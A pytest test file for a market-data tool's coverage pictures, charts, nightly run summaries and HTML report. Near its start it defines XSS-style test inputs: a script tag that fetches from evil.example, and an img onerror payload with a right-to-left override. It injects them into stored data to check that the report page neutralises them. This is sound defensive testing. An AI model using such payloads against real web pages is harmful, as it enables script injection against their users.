"""Pictures and the page: their numbers are the database's, and nothing that a vendor said acts in them."""

from __future__ import annotations

import io
import json
import re
from datetime import UTC, date, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from uuid import uuid4

import numpy as np
import pytest
import sqlalchemy as sa
from blocks import JUDGE, SESSIONS, answered, bars, change, count, days, query, range_of, ranged, start
from click.testing import CliRunner
from PIL import Image

from closingbell.cells import REASONS
from closingbell.cli import cli
from closingbell.errors import ConfigurationError, NotEntitledError, NotYetPublishedError, RetryableError
from closingbell.pictures import candles, coverage, nights
from closingbell.pictures.page import Covered, page
from closingbell.pictures.states import CELLS, CODES, STATES
from closingbell.store import Store, pictured
from closingbell.store.schema import bar, event, gap, run, split

#: What is read is tested on each kind of database, and what becomes of it once.
DRAWN = pytest.mark.postgres_only("drawing knows no database")

AT = datetime(2024, 4, 1, 6, tzinfo=UTC)

#: What a vendor might say, and a ticker that no check of ours would let in.
HOSTILE = '<script>fetch("https://evil.example/x")</script>'
MESSAGE = '</td><img src=x onerror="alert(1)"> \u202e see http://evil.example/?a=1&b=2'


@pytest.fixture
def filled(store: Store) -> Store:
    """Four tickers by ten sessions, every state among them."""
    block = bars("MSFT", days(0, 7))
    block.rows["high"][4] = 1.0
    store.writer.flush(
        start(store),
        "polygon",
        "1d",
        [
            ranged("AAPL", days(0, 9)),
            answered(range_of("MSFT", days(0, 9)), block),  # 8 and 9 empty, 4 in quarantine
            JUDGE.failed(range_of("GONE", days(0, 4)), RetryableError("no answer")),
            JUDGE.failed(range_of("GONE", days(5, 6)), NotEntitledError("not yours")),
            JUDGE.failed(range_of("GONE", days(7, 8)), NotYetPublishedError("not yet")),
            JUDGE.not_tried(range_of("GONE", days(9, 9))),
            ranged("LATE", days(6, 9)),  # 0 to 5 nobody ever asked for
        ],
        at=AT,
    )
    change(store, sa.delete(bar).where(bar.c.ticker == "AAPL", bar.c.session == SESSIONS[3].item()))  # by somebody
    return store


def by_sql(store: Store) -> dict[str, int]:
    """The states of all cells, counted by the database alone."""
    reasons = dict(query(store, "SELECT reason, count(*) FROM gap GROUP BY reason"))
    inside = sum(
        sum(first <= session <= last for session in SESSIONS.tolist())
        for first, last in query(store, sa.select(*_spans()))
    )
    stored, tickers = count(store, bar), len(query(store, sa.select(*_spans())))
    return {
        **dict.fromkeys((state.name for state in CELLS), 0),
        **{reason: int(n) for reason, n in reasons.items()},
        "stored": stored,
        "unexplained": inside - stored - sum(map(int, reasons.values())),
        "not asked for": tickers * 10 - inside,
    }


def _spans() -> list[sa.Column[Any]]:
    table = bar.metadata.tables["watermark"]
    return [table.c.first_session, table.c.last_session]


def test_every_state_is_counted_as_the_database_has_it(filled: Store) -> None:
    found = coverage.read(filled.engine, "polygon", "1d", AT)
    assert found.counts == by_sql(filled)
    assert all(found.counts.values()), "the test has to have every state"
    assert found.cells == 40
    assert (found.tickers, found.first, found.last) == (
        ("AAPL", "GONE", "LATE", "MSFT"),
        SESSIONS[0].item(),
        SESSIONS[9].item(),
    )


def test_cells_are_where_they_belong(filled: Store) -> None:
    found = coverage.read(filled.engine, "polygon", "1d", AT)
    names = [[STATES[code].name for code in row] for row in found.states.tolist()]
    aapl, gone, late, msft = names
    assert aapl == ["stored"] * 3 + ["unexplained"] + ["stored"] * 6
    assert gone == ["failed"] * 5 + ["unentitled"] * 2 + ["unpublished"] * 2 + ["pending"]
    assert late == ["not asked for"] * 6 + ["stored"] * 4
    assert msft == ["stored"] * 4 + ["quarantined"] + ["stored"] * 3 + ["empty"] * 2


def test_only_what_is_asked_for_is_shown(filled: Store) -> None:
    first, last = SESSIONS[4].item(), SESSIONS[5].item()
    found = coverage.read(filled.engine, "polygon", "1d", AT, ["MSFT", "GONE", "NEW"], first, last)
    assert found.tickers == ("MSFT", "GONE", "NEW")
    states = [[STATES[code].name for code in row] for row in found.states.tolist()]
    assert states == [["quarantined", "stored"], ["failed", "unentitled"], ["not asked for"] * 2]
    with pytest.raises(ConfigurationError, match="no session to show"):
        coverage.read(filled.engine, "polygon", "1d", AT, None, last, first)


def test_the_ledger_alone_says_the_same_but_for_what_was_changed_behind_its_back(filled: Store) -> None:
    believed = coverage.read(filled.engine, "polygon", "1d", AT, verified=False)
    truth = coverage.read(filled.engine, "polygon", "1d", AT)
    assert believed.counts["stored"] == truth.counts["stored"] + truth.counts["unexplained"]
    assert np.array_equal(believed.states[1:], truth.states[1:])
    assert believed.subtitle.endswith("by the ledger")


def test_each_calendar_has_its_own_sessions(store: Store) -> None:
    from closingbell.calendar import calendar_for
    from closingbell.outcome import Judge

    store.writer.flush(start(store), "polygon", "1d", [ranged("AAPL", days(2, 3))], at=AT)
    every = calendar_for("crypto").sessions(SESSIONS[2].item(), SESSIONS[3].item() + timedelta(days=3))
    judge = Judge("crypto", every, np.datetime64("2030-01-01"), np.datetime64("2030-01-01"))
    failed = judge.failed(range_of("X:BTCUSD", every), RetryableError("no answer"))
    store.writer.flush(start(store), "polygon", "1d", [failed], at=AT)
    found = coverage.read(store.engine, "polygon", "1d", AT)
    assert found.counts["failed"] == len(every) == count(store, gap)
    weekend = np.isin(found.sessions, SESSIONS, invert=True)
    assert weekend.any()
    assert (found.states[0, weekend] == CODES["no session"]).all()


@DRAWN
def test_the_colours_of_the_picture_are_the_states(filled: Store) -> None:
    found = coverage.read(filled.engine, "polygon", "1d", AT)
    for scale in (1, 2):
        png, where = found.drawn(scale=scale)
        image = Image.open(io.BytesIO(png.data)).convert("RGB")
        assert image.size == (png.width * scale, png.height * scale)
        for row, states in enumerate(found.states.tolist()):
            for column, code in enumerate(states):
                assert image.getpixel(where.centre(row, column)) == STATES[code].colour


def test_causes_are_the_gaps_grouped(filled: Store) -> None:
    first, last = SESSIONS[0].item(), SESSIONS[9].item()
    found, more, cells = pictured.causes(filled.engine, "polygon", "1d", None, first, last)
    assert (more, cells) == (0, 0)
    told = {cause.reason: (cause.cells, cause.tickers, cause.named) for cause in found}
    assert told == {
        "failed": (5, 1, ("GONE",)),
        "unentitled": (2, 1, ("GONE",)),
        "unpublished": (2, 1, ("GONE",)),
        "pending": (1, 1, ("GONE",)),
        "quarantined": (1, 1, ("MSFT",)),
    }
    assert found[0].what == "no answer"
    for ticker, session, path in (("GONE", 0, "a"), ("GONE", 1, "b")):
        where = (gap.c.ticker == ticker, gap.c.session == SESSIONS[session].item())
        change(filled, sa.update(gap).where(*where).values(last_error=f"the server failed: 503 for {path}"))
    (same,) = (
        cause
        for cause in pictured.causes(filled.engine, "polygon", "1d", None, first, last)[0]
        if cause.what == "the server failed"
    )
    assert (same.cells, same.example) == (2, "the server failed: 503 for a"), "what differs is not the cause"
    assert (same.first, same.last) == (SESSIONS[0].item(), SESSIONS[1].item())
    few, more, cells = pictured.causes(filled.engine, "polygon", "1d", None, first, last, limit=2)
    assert (len(few), more, cells) == (2, 4, 6)
    assert len(pictured.causes(filled.engine, "polygon", "1d", ["MSFT"], first, last)[0]) == 1


def ran(store: Store, at: datetime, **values: Any) -> None:
    """A run that took ``at`` for the present."""
    row: dict[str, Any] = {
        "run_id": uuid4(), "flow": "ingest", "source": "polygon", "timeframe": "1d", "state": "Completed",
        "asked": {"tickers": []}, "plan": {}, "planned_calls": 3, "actual_calls": 3, "inserted": 523, "rewritten": 0,
        "planned_cells": 0, "done_cells": 0, "accepted_bars": 0, "started_at": at,
        "ended_at": at + timedelta(seconds=9), "as_of": at,
        "report": {"seconds": {"total": 7.5}, "failed": {}, "next_command": None},
    }  # fmt: skip
    change(store, sa.insert(run).values(**{**row, **values}))


def test_nights_are_the_runs_of_each_date_in_new_york(store: Store) -> None:
    failed = {"no answer": {"calls": 2, "cells": 40, "tickers": ["AAPL", "MSFT"]}}
    partial = {"seconds": {"total": 20.25}, "failed": failed, "next_command": "closingbell retry x"}
    ran(store, datetime(2026, 3, 3, 6, 30, tzinfo=UTC))  # Tuesday
    ran(store, datetime(2026, 3, 4, 6, 30, tzinfo=UTC), state="PartiallyCompleted", report=partial, actual_calls=5)
    ran(store, datetime(2026, 3, 5, 3, 0, tzinfo=UTC), inserted=40, report=None)  # still Wednesday there
    ran(store, datetime(2026, 3, 8, 12, 0, tzinfo=UTC), inserted=0, rewritten=2)  # a Sunday
    found = nights.read(store.engine, datetime(2026, 3, 10, 20, tzinfo=UTC))
    assert [(night.day.isoformat(), night.runs) for night in found] == [
        ("2026-03-03", 1), ("2026-03-04", 2), ("2026-03-05", 0), ("2026-03-06", 0), ("2026-03-07", 0),
        ("2026-03-08", 1), ("2026-03-10", 0),
    ]  # fmt: skip
    two = found[1]
    assert (two.inserted, two.failed_cells, two.planned_calls, two.actual_calls) == (563, 40, 6, 8)
    assert two.seconds == pytest.approx(20.25 + 9)
    assert two.states == ("PartiallyCompleted", "Completed")
    assert two.next_commands == ("closingbell retry x",)
    assert sum(night.inserted for night in found) == query(store, sa.select(sa.func.sum(run.c.inserted)))[0][0]
    assert len(nights.read(store.engine, datetime(2026, 3, 10, 20, tzinfo=UTC), 3)) == 3
    later = nights.read(store.engine, datetime(2027, 3, 10, 20, tzinfo=UTC))
    assert later[-1].day == date(2026, 3, 8), "long after the last run, the nights up to it are shown"


def split_on(store: Store, session: date) -> None:
    values = {"source": "polygon", "ticker": "AAPL", "execution_date": session, "split_from": 1.0, "split_to": 4.0}
    change(store, sa.insert(split).values(**values, run_id=uuid4(), seen_at=AT, known_from=AT))


def test_candles_are_the_bars(filled: Store) -> None:
    split_on(filled, SESSIONS[5].item())
    raw = candles.read(filled.engine, "AAPL", "1d", AT, adjusted=False)
    names = ("session", "open", "high", "low", "close", "volume")
    expected = query(
        filled, sa.select(*(bar.c[name] for name in names)).where(bar.c.ticker == "AAPL").order_by(bar.c.ts)
    )
    assert [tuple(row[name].item() for name in names) for row in raw.rows] == expected
    adjusted = candles.read(filled.engine, "AAPL", "1d", AT)
    before = adjusted.rows["session"] < SESSIONS[5]
    assert before.sum() == 4
    assert adjusted.rows["close"] == pytest.approx(np.where(before, raw.rows["close"] / 4, raw.rows["close"]))
    assert adjusted.rows["volume"] == pytest.approx(np.where(before, raw.rows["volume"] * 4, raw.rows["volume"]))
    view = query(filled, "SELECT close FROM bar_adjusted WHERE ticker = 'AAPL' ORDER BY ts")
    assert adjusted.rows["close"].tolist() == pytest.approx([close for (close,) in view])
    assert adjusted.splits == ((SESSIONS[5].item(), 1.0, 4.0),)


def test_candles_show_events_in_their_own_scale_and_sessions_without_a_bar(filled: Store) -> None:
    split_on(filled, SESSIONS[9].item())
    first, last = (answered(range_of("MSFT", days(i, i)), bars("MSFT", days(i, i))) for i in (0, 7))
    of = {"ticker": "MSFT", "timeframe": "1d", "detector": "triangles", "version": "1", "source": "polygon"}
    lines = {"upper": 110.0, "upper_slope": -0.5, "lower": 90.0, "lower_slope": 0.5, "apex_bars": 20.0}
    ts = [outcome.verdict.accepted.rows["ts"][0].item().replace(tzinfo=UTC) for outcome in (first, last)]
    found = {"from_timeframe": "1d", "kind": "symmetrical", "bars": 7, "run_id": uuid4(), "session": SESSIONS[7].item()}
    change(filled, sa.insert(event).values(**of, **lines, **found, first_ts=ts[0], ts=ts[1]))
    values = {"source": "polygon", "ticker": "MSFT", "execution_date": SESSIONS[8].item()}
    change(
        filled,
        sa.insert(split).values(**values, split_from=1.0, split_to=2.0, run_id=uuid4(), seen_at=AT, known_from=AT),
    )
    chart = candles.read(filled.engine, "MSFT", "1d", AT)
    assert [(each["kind"], each["upper"], each["lower_slope"]) for each in chart.events] == [("symmetrical", 55, 0.25)]
    assert chart.gaps == ((SESSIONS[4].item(), "quarantined"),)
    assert candles.read(filled.engine, "MSFT", "1d", AT, adjusted=False).events[0]["upper"] == 110
    assert len(candles.read(filled.engine, "GONE", "1d", AT).rows) == 0


class Seen(HTMLParser):
    """What of a page could act, be loaded or be read."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.links: list[str] = []
        self.handlers: list[str] = []
        self.alts: list[str] = []
        self.tables: dict[str, list[list[str]]] = {}
        self._table: list[list[str]] = []
        self._caption = self._cell = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        for name, value in attrs:
            if name in ("src", "href", "action", "data", "srcset", "poster"):
                self.links.append(value or "")
            if name.startswith("on"):
                self.handlers.append(name)
            if name == "alt":
                self.alts.append(value or "")
        if tag == "caption":
            self._caption, self._title = True, ""
        elif tag == "tr":
            self._table.append([])
        elif tag in ("td", "th"):
            self._cell = True
            self._table[-1].append("")

    def handle_endtag(self, tag: str) -> None:
        if tag == "caption":
            self._caption = False
            self._table = self.tables.setdefault(self._title, [])
        elif tag in ("td", "th"):
            self._cell = False

    def handle_data(self, data: str) -> None:
        if self._caption:
            self._title += data
        elif self._cell:
            self._table[-1][-1] += data


def seen(html: str) -> Seen:
    found = Seen()
    found.feed(html)
    found.close()
    return found


def made(store: Store) -> str:
    """The page of all that is stored."""
    covered = []
    for source, timeframe, _ in pictured.series(store.engine):
        found = coverage.read(store.engine, source, timeframe, AT)
        assert found.first is not None
        assert found.last is not None
        causes = pictured.causes(store.engine, source, timeframe, None, found.first, found.last)
        covered.append(Covered(found, *causes))
    charts = [candles.read(store.engine, "AAPL", "1d", AT)]
    return page(covered, nights.read(store.engine, datetime.now(UTC)), charts, pictured.totals(store.engine), AT)


@DRAWN
def test_the_numbers_of_the_page_are_those_of_the_database(filled: Store) -> None:
    found = seen(made(filled))
    (states,) = (table for title, table in found.tables.items() if title.endswith("cells by state"))
    assert {row[0]: int(row[1].replace(",", "")) for row in states[1:-1]} == by_sql(filled)
    (causes,) = (table for title, table in found.tables.items() if "grouped by reason" in title)
    counted = dict(query(filled, "SELECT reason, count(*) FROM gap WHERE reason <> 'empty' GROUP BY reason"))
    assert {row[0]: int(row[1]) for row in causes[1:]} == counted
    assert [row[5] for row in causes[1:] if row[0] == "failed"] == ["closingbell retry all"]
    totals = {row[0]: int(row[1]) for row in found.tables["What the database holds, rows"][1:]}
    assert totals["bars of polygon, 1d"] == count(filled, bar)
    assert (totals["gaps"], totals["runs"]) == (count(filled, gap), count(filled, run))
    assert all(found.alts)
    assert len(found.alts) == 3


@DRAWN
def test_nothing_in_the_page_leads_out_of_it_or_acts(filled: Store) -> None:
    change(filled, sa.update(gap).where(gap.c.ticker == "GONE").values(last_error=MESSAGE))
    for table in ("gap", "watermark"):
        of = bar.metadata.tables[table]
        change(filled, sa.update(of).where(of.c.ticker == "GONE").values(ticker=HOSTILE[:32]))
    ran(filled, datetime.now(UTC), state=MESSAGE[:32], report={"failed": {HOSTILE: {"cells": 1, "tickers": [HOSTILE]}}})
    html = made(filled)
    found = seen(html)
    assert not found.handlers
    assert not found.tags & {"script", "iframe", "object", "embed", "form", "base"}
    assert all(link.startswith(("data:image/png;base64,", "data:,", "#")) for link in found.links)
    assert "\u202e" not in html
    assert HOSTILE[:32] in {cell for table in found.tables.values() for row in table for cell in row}, "it is shown"
    assert any(
        "http://evil.example/?a=1&b=2" in cell for table in found.tables.values() for row in table for cell in row
    )
    assert "//" not in re.sub(r"base64,[A-Za-z0-9+/=]+", "", html), "not even an address that is only shown"


@DRAWN
def test_an_empty_database_has_a_page_too(store: Store) -> None:
    html = page([], nights.read(store.engine, AT), [], pictured.totals(store.engine), AT)
    assert "Nothing is stored yet" in html
    found = coverage.read(store.engine, "polygon", "1d", AT)
    assert (found.cells, found.first) == (0, None)
    assert found.png().data.startswith(b"\x89PNG")


@pytest.fixture
def command(database_url: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Any:
    """The command, on the test's database and in a folder of its own."""
    monkeypatch.setenv("DATABASE_URL", database_url)
    monkeypatch.setenv("POLYGON_API_KEY", "canary-3fe1")
    monkeypatch.setenv("CLOSINGBELL_NOW", AT.isoformat())
    monkeypatch.chdir(tmp_path)

    def call(*arguments: str) -> Any:
        return CliRunner().invoke(cli, ["picture", *arguments], catch_exceptions=True)

    return call


@DRAWN
def test_the_command_writes_each_picture_and_prints_its_numbers(filled: Store, command: Any, tmp_path: Path) -> None:
    written = command("coverage")
    assert written.exit_code == 0, written.output
    assert "written to coverage-1d.png, " in written.output
    assert (tmp_path / "coverage-1d.png").read_bytes().startswith(b"\x89PNG")
    page = command("report", "--candles", "AAPL", "--json", "--out", "page.html")
    assert json.loads(page.output)["file"] == "page.html"
    assert (tmp_path / "page.html").read_bytes().startswith(b"<!doctype html>")
    assert sorted(path.name for path in tmp_path.iterdir() if path.is_file()) == ["coverage-1d.png", "page.html"]
    chart = json.loads(command("candles", "AAPL", "--json").output)
    assert len(chart["bars"]) == count(filled, bar, bar.c.ticker == "AAPL")
    assert len(json.loads(command("nights", "--json").output)["nights"]) >= 1
    assert command("nights", "--out", "-").stdout_bytes.startswith(b"\x89PNG")
    told = json.loads(command("coverage", "--json").output)
    assert told["states"] == by_sql(filled)
    assert told["open"]["GONE"] == {"failed": 5, "unentitled": 2, "pending": 1, "unpublished": 2}
    whole = json.loads(command("report", "--json").output)
    assert whole["coverage"][0]["states"] == by_sql(filled)
    assert {cause["reason"] for cause in whole["coverage"][0]["causes"]} == set(REASONS) - {"empty"}
    assert len(whole["candles"]) == 1


@DRAWN
def test_the_command_says_what_it_cannot_draw(filled: Store, command: Any) -> None:
    for arguments, words in (
        (("candles", "GONE"), "no such bar is stored"),
        (("coverage", "--timeframe", "1m"), "There are: polygon 1d"),
        (("coverage", "--out", "no/such/folder.png"), "cannot be written"),
        (("coverage", "--start", "2024-02-01", "--end", "2024-01-01"), "no session to show"),
    ):
        result = command(*arguments)
        assert words in str(result.exception), arguments
        assert isinstance(result.exception, ConfigurationError)
